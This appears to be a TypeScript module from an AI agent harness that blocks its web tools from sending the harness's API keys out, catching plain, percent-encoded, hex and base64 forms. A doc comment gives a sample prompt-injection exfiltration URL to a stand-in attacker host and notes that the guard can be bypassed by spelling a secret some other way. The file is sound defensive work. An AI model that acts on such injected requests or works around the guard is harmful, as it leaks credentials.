import { ToolError } from "../tool.js";

/** Secrets shorter than this are not looked for: too many ordinary strings would match. */
const minSecretLength = 8;
/** Percent-decoding is repeated this often (`%2525` hides a `%25` that hides a `%`). */
const maxDecodings = 3;

/** Whether any of the texts of one outgoing request carries a secret. */
export type SecretEgressGuard = (texts: readonly string[]) => boolean;

/**
 * The guard of `web_fetch` and `web_search` against exfiltration: a text carries a secret when
 * it holds the value plainly (any case), percent-encoded (up to three times), as hex, or in
 * base64 or base64url at any alignment (so `base64("key=" + secret)` is caught too). A prompt
 * injection that asks for `https://evil.example/?k=<the API key>` is refused before any
 * connection. A speed bump, not a boundary: a model can still spell a secret out some other way.
 */
export function secretEgressGuard(secrets: readonly string[]): SecretEgressGuard {
  const usable = [...new Set(secrets)].filter((secret) => secret.length >= minSecretLength);
  if (usable.length === 0) return () => false;
  const anyCase = usable.flatMap((secret) => [secret.toLowerCase(), Buffer.from(secret).toString("hex")]);
  const exact = usable.flatMap(base64Forms);
  return (texts) =>
    texts.some((text) =>
      decodings(text).some((variant) => {
        const lower = variant.toLowerCase();
        return anyCase.some((needle) => lower.includes(needle)) || exact.some((needle) => variant.includes(needle));
      }),
    );
}

/** The text and its successive percent-decodings. */
function decodings(text: string): string[] {
  const variants = [text];
  let current = text;
  for (let round = 0; round < maxDecodings; round++) {
    const next = percentDecoded(current);
    if (next === current) break;
    variants.push(next);
    current = next;
  }
  return variants;
}

function percentDecoded(text: string): string {
  try {
    return decodeURIComponent(text);
  } catch {
    return text.replace(/%([0-9a-f]{2})/gi, (_escape, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
  }
}

/**
 * Base64 and base64url of the secret at each of the three byte alignments: whatever precedes
 * the secret in an encoded blob, one of these is a substring of the blob.
 */
function base64Forms(secret: string): string[] {
  const bytes = Buffer.from(secret);
  const forms: string[] = [];
  for (let skip = 0; skip < 3; skip++) {
    const length = Math.floor((bytes.length - skip) / 3) * 3;
    if (length < 6) continue;
    const encoded = bytes.subarray(skip, skip + length).toString("base64");
    forms.push(encoded, encoded.replaceAll("+", "-").replaceAll("/", "_"));
  }
  return forms;
}

/** The tool error of a refused request; it names no secret, so the model cannot learn one from it. */
export function secretRefusal(tool: "web_fetch" | "web_search"): ToolError {
  return new ToolError(
    "PermissionDenied",
    `refused: this ${tool} request carries one of skein's own secrets (an API key or token, plain or encoded); ` +
      "secrets never leave through the web tools",
  );
}
